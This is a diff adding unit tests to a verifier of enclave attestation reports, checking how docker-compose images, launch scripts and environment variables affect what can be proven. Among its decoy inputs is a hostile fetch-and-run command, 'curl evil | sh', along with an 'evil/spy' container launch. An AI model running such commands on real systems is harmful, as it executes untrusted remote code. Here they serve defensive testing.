@@ -184,6 +184,68 @@ describe("an attestation report", () => {
     assert.equal(image({ ImageDigest: "" })?.why, "notAnnounced");
   });
 
+  const { name, digest } = enclave.image();
+  const app = {
+    runner: "docker-compose",
+    docker_compose_file: `services:\n  broker:\n    image: ${name}@${digest}\n`,
+  };
+  const started = (changes: object) => {
+    const verification = check(enclave.reportOf({ ...app, ...changes }));
+    assert.equal(stepOf(verification, "compose-hash")?.status, "proven");
+    assert.deepEqual(failures(verification), []);
+    return (["image-digests", "images"] as const).map((id) => {
+      const step = stepOf(verification, id);
+      return [step?.status, step?.why];
+    });
+  };
+
+  it("proves images only where the compose file is what the system starts", () => {
+    assert.deepEqual(started({}), [
+      ["proven", undefined],
+      ["proven", undefined],
+    ]);
+    const decoys = [
+      { runner: "bash", bash_script: "docker run evil/spy" },
+      { runner: undefined },
+      { runner: {} },
+    ];
+    for (const decoy of decoys)
+      assert.deepEqual(started(decoy), [
+        ["not-checked", "otherRunner"],
+        ["not-checked", "otherRunner"],
+      ]);
+  });
+
+  it("only observes images where scripts run before them, and names the scripts", () => {
+    for (const scripts of [
+      { pre_launch_script: "docker run -d evil/spy:latest" },
+      { init_script: "curl evil | sh" },
+      { pre_launch_script: ["x"] },
+    ])
+      assert.deepEqual(started(scripts), [
+        ["observed", "scripts"],
+        ["observed", "scripts"],
+      ]);
+    const both = check(enclave.reportOf({ ...app, pre_launch_script: "a", init_script: "b" }));
+    const right = stepOf(both, "image-digests")?.right;
+    assert.equal(right, `init_script\npre_launch_script\n${name}@${digest}`);
+    assert.deepEqual(started({ pre_launch_script: "", init_script: null })[0], ["proven", undefined]);
+  });
+
+  it("only observes images where a variable from outside decides what is started", () => {
+    assert.deepEqual(started({ allowed_envs: ["TOKEN", "COMPOSE_FILE"] }), [
+      ["observed", "variables"],
+      ["observed", "variables"],
+    ]);
+    assert.deepEqual(started({ allowed_envs: ["TOKEN", "DOCKER_USERNAME", 7] })[0], ["proven", undefined]);
+  });
+
+  it("of which scripts run still fails where the announced image is not among those it names", () => {
+    const info = enclave.info({ ImageDigest: `sha256:${"0".repeat(64)}` });
+    const verification = check(enclave.reportOf({ ...app, init_script: "b" }), { info });
+    assert.equal(stepOf(verification, "images")?.status, "failed");
+  });
+
   for (const [verifier, why] of [
     ["cryptopilot", "cryptopilot"],
     ["somebody", "unknownVerifier"],
@@ -194,6 +256,19 @@ describe("an attestation report", () => {
       assert.deepEqual(verification.steps, [{ id: "report", status: "not-checked", why }]);
       assert.equal(custodyWord(verification.steps), "notProven");
     });
+
+  it("with more parts than any report has is not built, wherever they stand", () => {
+    const deep = "[".repeat(1_900_000) + "]".repeat(1_900_000);
+    const wide = Array.from({ length: 300_000 }, (_, index) => `"k${index}":0`).join(",");
+    const escaped = `"{\\"mrtd\\":\\"${"\\u005b".repeat(60_000)}\\"}"`;
+    const stepsOf = (summary: string) => check(`{"quote":"00","tcb_info":${summary}}`);
+    for (const summary of [deep, `{${wide}}`, `"${deep}"`])
+      assert.deepEqual(failures(stepsOf(summary)), ["report tooLarge"]);
+    assert.equal(stepOf(stepsOf(escaped), "tcb-info")?.why, "missing");
+    assert.deepEqual(startedImages(`{"runner":"docker-compose","x":"${"x".repeat(600_000)}"}`), {
+      why: "unreadableCompose",
+    });
+  });
 
   it("never throws and never passes, whatever it holds", () => {
     const deep = "[".repeat(100_000) + "]".repeat(100_000);
@@ -234,21 +309,26 @@ describe("an attestation report", () => {
 });
 
 describe("the images of a compose file", () => {
-  const images = (file: string) => startedImages(JSON.stringify({ docker_compose_file: file }));
+  const images = (file: string) => {
+    const read = startedImages(JSON.stringify({ runner: "docker-compose", docker_compose_file: file }));
+    return "why" in read ? read.why : read;
+  };
   const digest = `sha256:${"ab".repeat(32)}`;
 
   it("are found however they are written", () => {
     const file = `x-a: &a\n  image: one@${digest}\nservices:\n  a:\n    <<: *a\n  b: {image: "host:5000/two:1"}\n  c: *a\n  d:\n    environment:\n      - image=five\n    image: >-\n      three\n`;
     assert.deepEqual(images(file), {
       images: [{ name: "one", digest }, { name: "host:5000/two:1" }, { name: "three" }],
-      unnamed: [],
+      ...{ unnamed: [], scripts: [], variables: [] },
     });
   });
 
   it("that nobody can name are told", () => {
     const file =
       "include: [other.yml]\nservices:\n  a: {build: .}\n  b: {image: $X}\n  c: {extends: {file: x}}\n  d: {image: a, build: .}\n  e:\n";
-    assert.deepEqual(images(file)?.unnamed, ["include", "a", "b", "c", "d", "e"]);
+    const found = images(file);
+    assert.ok(typeof found === "object");
+    assert.deepEqual(found.unnamed, ["include", "a", "b", "c", "d", "e"]);
   });
 
   it("are unknown where the file is no compose file", () => {
@@ -261,8 +341,8 @@ describe("the images of a compose file", () => {
       `${"[".repeat(100_000)}`,
       bomb,
     ])
-      assert.equal(images(file), undefined, file.slice(0, 40));
-    assert.equal(startedImages("oops"), undefined);
+      assert.equal(images(file), "unreadableCompose", file.slice(0, 40));
+    for (const app of ["oops", undefined]) assert.deepEqual(startedImages(app), { why: "unreadableCompose" });
   });
 });
 
